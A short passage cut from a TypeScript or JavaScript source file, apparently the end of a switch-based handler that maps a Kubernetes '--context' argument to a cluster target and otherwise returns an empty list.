        return name !== undefined ? contextSwitchSeen(name, (n) => clusterTarget('cluster', n, clusterOf({ ...inv, assignments: { ...inv.assignments, [KUBE_CONTEXT_USED]: n } }, () => undefined, ctx, ['--context']), ctx, 'kubernetes')) : [];
      }
      default:
        return [];
    }
  },
};
